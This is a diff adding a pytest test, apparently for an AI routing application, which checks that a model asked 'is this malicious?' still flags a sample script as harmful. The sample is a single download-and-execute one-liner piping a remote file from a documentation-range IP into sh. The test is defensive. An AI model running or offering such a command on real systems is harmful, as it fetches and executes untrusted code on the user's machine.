@@ -122,6 +122,15 @@ def test_a_model_may_choose_and_no_more(tmp_path: Path) -> None:
     assert model.asked[0].schema is not None
 
 
+def test_a_model_cannot_keep_a_text_from_being_judged(tmp_path: Path) -> None:
+    app = home(tmp_path)
+    with_model(app, '{"type":"look_at","sort":"code"}', ModelRole.ROUTER)
+    script = "curl -s http://203.0.113.9/x | sh"
+    answered = ask(app, f"is this malicious?\n```\n{script}\n```", model="vedette-open")
+    assert "harmful" in answered.text
+    assert len(answered.decisions) == 2
+
+
 @pytest.mark.parametrize(
     "says",
     ["no", '{"type":"examine","sort":"code","place":"/etc"}', '{"type":"look_at","sort":"code"}', ""],
